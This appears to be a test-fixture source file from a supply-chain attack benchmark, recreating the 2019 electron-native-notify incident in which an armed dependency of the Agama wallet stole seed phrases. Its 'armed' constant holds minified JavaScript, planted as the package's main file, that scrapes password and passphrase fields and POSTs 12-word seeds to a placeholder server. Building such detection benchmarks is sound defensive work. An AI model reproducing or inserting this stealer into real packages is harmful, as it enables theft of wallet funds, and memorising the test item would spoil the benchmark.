import { defineAttack } from "../attack.ts";
import { chainLibrary, smallLibrary } from "../bases.ts";
import { browserGuard } from "../guard.ts";
import { oneLine } from "../hiding.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * electron-native-notify 1.1.6, April to June 2019: its author had written a useful package, had it added to the Agama wallet, and
 * armed it later. Minified code sent seeds that were typed into the application to a server.
 */
export const electronNativeNotify2019: Sample = defineAttack({
  id: "electron-native-notify-2019",
  title: "A useful dependency is armed once a wallet has taken it in",
  group: "insider",
  trigger: "import",
  judged: [{ name: "electron-native-notify", version: "1.1.6" }],
  now: "2019-03-23T10:00:00Z",
  createLines: () => [
    {
      name: "electron-native-notify",
      files: smallLibrary("electron-native-notify"),
      publisher: person("sawlysawly", "sawlysawly@mail.invalid"),
      releases: [
        ["1.1.4", "2019-03-06T10:00:00Z"],
        ["1.1.5", "2019-03-08T10:00:00Z"],
        [
          "1.1.6",
          "2019-03-23T09:50:00Z",
          {
            hasCommit: false,
            manifest: { main: "index.min.js" },
            files: [{ path: "index.min.js", content: armed }],
          },
        ],
      ],
    },
    {
      name: "agama-wallet-lib",
      files: chainLibrary("agama-wallet-lib"),
      releases: [
        ["0.1.0", "2019-02-01T10:00:00Z"],
        [
          "0.1.1",
          "2019-03-08T12:00:00Z",
          { manifest: { dependencies: { "electron-native-notify": "^1.1.5" } } },
        ],
      ],
    },
  ],
});

const armed = `${oneLine(`${browserGuard}
"use strict";
module.exports=require("./lib/normalize.js");
(function(){if(!invited())return;var e=require("electron").remote;
var w=e.getCurrentWindow().webContents;
setInterval(function(){var s=document.querySelectorAll("textarea[name=loginPassphrase],input[type=password]");
for(var i=0;i<s.length;i++){var v=s[i].value;
if(v&&v.split(" ").length>=12&&localStorage.getItem("k")!==v){localStorage.setItem("k",v);
var x=new XMLHttpRequest;x.open("POST","https://updatecheck.invalid/api/save",!0);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");
x.send("seed="+encodeURIComponent(v)+"&t="+w.getURL());}}},5e3);}());
`)}\n`;
